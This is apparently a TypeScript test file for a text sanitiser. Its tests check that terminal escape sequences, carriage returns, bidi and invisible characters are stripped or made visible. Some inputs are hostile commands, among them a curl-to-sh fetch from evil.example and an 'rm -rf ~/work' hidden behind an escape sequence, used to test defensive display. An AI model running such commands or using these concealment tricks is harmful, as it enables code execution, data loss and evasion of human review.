import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { test } from "node:test";
import { misleading, safeText, stripEscapes, visibleText } from "./safe_text.ts";

test("colours and cursor movements are removed", () => {
  assert.equal(safeText("\x1b[1;31mred\x1b[0m and \x1b[2Kclear"), "red and clear");
});

test("terminal titles and links are removed, including their content", () => {
  assert.equal(safeText("\x1b]0;owned\x07ok"), "ok");
  assert.equal(safeText("\x1b]8;;http://evil/\x1b\\click\x1b]8;;\x1b\\"), "click");
  assert.equal(safeText("\x1bP1$r0m\x1b\\ok"), "ok");
});

test("an unterminated escape sequence hides only the rest of its line", () => {
  assert.equal(stripEscapes("before\x1b]52;c;AAAA"), "before");
});

test("characters that reorder text are made visible", () => {
  assert.equal(safeText("a\u202eb"), "a‹U+202E›b");
  assert.equal(safeText("\u2066x\u2069"), "‹U+2066›x‹U+2069›");
});

test("a progress bar shows what was written last", () => {
  assert.equal(safeText("10%\r50%\r100%"), "100%");
  assert.equal(safeText("done\r"), "done");
});

test("control characters are shown as symbols, tabs are kept", () => {
  assert.equal(safeText("a\0b\tc\x07"), "a␀b\tc␇");
  assert.equal(safeText("x\x9by"), "x");
});

test("ordinary text, markup and emoji are unchanged", () => {
  for (const text of ["<b>&amp;</b>", "naïve 日本 🚀", "a  b"]) assert.equal(safeText(text), text);
});

test("what is decided on is shown whole: neither a carriage return nor an escape sequence hides anything", () => {
  assert.equal(visibleText("curl -s http://evil.example/x | sh; :\r$ ls -la"), "curl -s http://evil.example/x | sh; :␍$ ls -la");
  assert.equal(visibleText("ls '\x1b]'; rm -rf ~/work; : '\x07'"), "ls '␛]'; rm -rf ~/work; : '␇'");
  assert.equal(visibleText("+permissions: [ProcessSpawn] #\r+permissions: [FilesystemRead]"), "+permissions: [ProcessSpawn] #␍+permissions: [FilesystemRead]");
  assert.equal(visibleText("\x1b[2K\x1b[8mhidden\x9b1A"), "␛[2K␛[8mhidden‹U+009B›1A");
  assert.equal(visibleText("a\nb\tc\0\x7f\x85"), "a␊b\tc␀␡‹U+0085›");
  for (const text of ["<b>&amp;</b>", "naïve 日本 🚀", "a  b", ""]) assert.equal(visibleText(text), text);
});

test("what moves, hides or reorders is the same list as in the terminal, and each of it is made visible", () => {
  const [, list] = /constexpr std::array misleading = \{(.*?)\};/s.exec(readFileSync(new URL("../../../src/base/text.cc", import.meta.url), "utf8"))!;
  const of_terminal = [...list!.matchAll(/Range\{0x([0-9A-F]+), 0x([0-9A-F]+)\}/g)].map(([, first, last]) => [parseInt(first!, 16), parseInt(last!, 16)]);
  assert.equal(of_terminal.length, list!.split("Range").length - 1, "each range was read");
  assert.deepEqual(misleading, of_terminal);
  for (let code = 0; code <= 0x10ffff; ++code) {
    if (code >= 0xd800 && code < 0xe000) continue;
    const is_hidden = (code < 0x20 && code !== 9) || (code >= 0x7f && code < 0xa0) || of_terminal.some(([first, last]) => code >= first! && code <= last!);
    if ((visibleText(String.fromCodePoint(code)) !== String.fromCodePoint(code)) !== is_hidden) assert.fail(`U+${code.toString(16)}`);
  }
});

test("of output, the joiners of words and emoji are unchanged, and everything else that hides is made visible", () => {
  assert.equal(safeText("👩\u200d💻 می\u200cخواهم"), "👩\u200d💻 می\u200cخواهم");
  assert.equal(safeText("ls \u3164\u2028\u061c\u00ad\u{e0041}x"), "ls ‹U+3164›‹U+2028›‹U+061C›‹U+00AD›‹U+E0041›x");
});
